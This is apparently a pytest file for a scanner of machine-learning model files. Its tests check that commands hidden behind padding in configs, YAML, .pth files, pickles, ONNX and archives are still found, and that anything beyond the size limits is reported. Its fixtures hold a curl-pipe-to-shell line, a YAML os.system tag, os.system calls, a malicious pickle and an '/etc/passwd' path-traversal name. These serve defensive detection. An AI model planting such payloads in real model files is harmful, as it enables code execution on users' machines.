"""What lies behind a limit is found or told, never silently left."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.probes.artifacts.assemble import EVIL, rules, scan, scan_bytes, zipped
from tests.probes.artifacts.wire import onnx, onnx_node, onnx_tensor, part

TOLD = "content-not-searched"
RUN = "curl https://example.com/i.sh | sh"


@pytest.mark.parametrize("before", [0, 3_990, 4_010, 90_000])
def test_a_command_behind_thousands_of_characters(tmp_path: Path, before: int) -> None:
    value = {"model_type": "x", "post_load": "#" * before + "\n" + RUN}
    data = json.dumps(value).encode()
    assert rules(scan_bytes(tmp_path, data, "config.json")) == {"config-code"}


def test_a_command_in_a_large_configuration_of_a_model(tmp_path: Path) -> None:
    large = {"model_type": "x", "padding": [0] * 500_000, "post_load": RUN}
    assert "config-code" in rules(scan_bytes(tmp_path, json.dumps(large).encode(), "config.json"))


def test_a_configuration_that_is_too_large_is_a_finding(tmp_path: Path) -> None:
    data = b'{"auto_map": {"AutoModel": "x.Y"},' + b" " * (9 << 20) + b'"a": 1}'
    assert TOLD in rules(scan_bytes(tmp_path, data, "config.json"))


@pytest.mark.parametrize("padding", [100, (1 << 20) - 20, (1 << 20) + 5, 3 << 20])
def test_yaml_tags_behind_a_megabyte_of_comments(tmp_path: Path, padding: int) -> None:
    data = b"name: x\n" + b"#" * padding + b"\nrun: !!python/object/apply:os.system [id]\n"
    found = scan_bytes(tmp_path, data, "params.yaml")
    assert any(one.severity in ("medium", "high", "critical") for one in found)
    if padding >= 1 << 20:
        assert rules(found) == {TOLD}


@pytest.mark.parametrize("padding", [10, 1 << 20, 7 << 20])
def test_a_line_that_python_runs_behind_comments(tmp_path: Path, padding: int) -> None:
    line = b"import os; os.getpid()\n"
    data = b"# x\n" * (padding // 4) + line
    assert "python-path-code" in rules(scan_bytes(tmp_path, data, "x.pth"))
    beyond = b"# x\n" * (9 << 18) + line
    assert TOLD in rules(scan_bytes(tmp_path, beyond, "x.pth"))


@pytest.mark.parametrize("at", [0, (1 << 20) - 10, (1 << 20) + 7, 12 << 20])
def test_a_pickle_deep_inside_of_unknown_bytes(tmp_path: Path, at: int) -> None:
    data = b"\xee" * (at + 100) + EVIL + b"\xee" * 100
    assert "pickle-stray" in rules(scan_bytes(tmp_path, data, "x.dat"))


def test_unknown_bytes_beyond_are_recorded(tmp_path: Path) -> None:
    path = tmp_path / "x.dat"
    path.write_bytes(b"\xee" * (18 << 20))
    assert any("first 16 MB" in one for one in scan(path)[1].skipped)


def test_large_sources_in_an_archive_and_long_lists_are_told(tmp_path: Path) -> None:
    source = b"# x\n" * (3 << 18) + b"import os\nos.system('id')\n"
    found = scan_bytes(tmp_path, zipped({"handler.py": source}), "m.mar")
    assert TOLD in rules(found)
    many = {"auto_map": {f"Auto{i}": f"m{i}.X" for i in range(60)}}
    assert TOLD in rules(scan_bytes(tmp_path, json.dumps(many).encode(), "config.json"))


def test_findings_beyond_the_limit_of_a_file_are_told(tmp_path: Path) -> None:
    found = scan_bytes(tmp_path, zipped({f"{i}.pkl": EVIL for i in range(250)}), "many.zip")
    assert len(found) == 201
    assert found[-1].rule == TOLD
    assert "More than 200" in found[-1].message


def test_the_last_of_many_files_that_a_model_names(tmp_path: Path) -> None:
    names = [*(f"a{number}.bin" for number in range(40)), "z/../../../etc/passwd"]
    tensors = tuple(onnx_tensor("w", [2], external={"location": name}) for name in names)
    found = scan_bytes(tmp_path, onnx(onnx_node("Add"), tensors=tensors), "m.onnx")
    assert rules(found) == {"onnx-external-data"}
    assert "etc/passwd" in found[0].message
    many = tuple(onnx_tensor("w", [2], external={"location": f"{n}"}) for n in range(1_002))
    assert TOLD in rules(scan_bytes(tmp_path, onnx(onnx_node("Add"), tensors=many), "m.onnx"))


def test_the_last_of_many_operators(tmp_path: Path) -> None:
    """Functions of the model itself, and one that is none."""
    own = [(f"op{number}", "mine") for number in range(1_500)]
    functions = b"".join(part(25, part(1, name) + part(10, domain)) for name, domain in own)
    nodes = [onnx_node(name, domain) for name, domain in own]
    assert scan_bytes(tmp_path, onnx(*nodes, extra=functions), "m.onnx") == []
    model = onnx(*nodes, onnx_node("Evil", "others"), extra=functions)
    assert rules(scan_bytes(tmp_path, model, "m.onnx")) == {"onnx-custom-operator"}
    _, inspection = scan(_write(tmp_path, onnx(*(onnx_node("x", f"d{n}") for n in range(20)))))
    assert any("more than 10 findings" in one for one in inspection.skipped)


def test_a_class_behind_many_values_of_a_configuration(tmp_path: Path) -> None:
    layers = [{"class_name": "Evil", "config": {}}, {"x": [[]] * 250_000}]
    config = {"class_name": "Sequential", "config": {"layers": layers}}
    data = json.dumps(config).encode()
    assert "keras-foreign-module" in rules(scan_bytes(tmp_path, data, "m.json"))


def _write(folder: Path, data: bytes) -> Path:
    (folder / "m.onnx").write_bytes(data)
    return folder / "m.onnx"
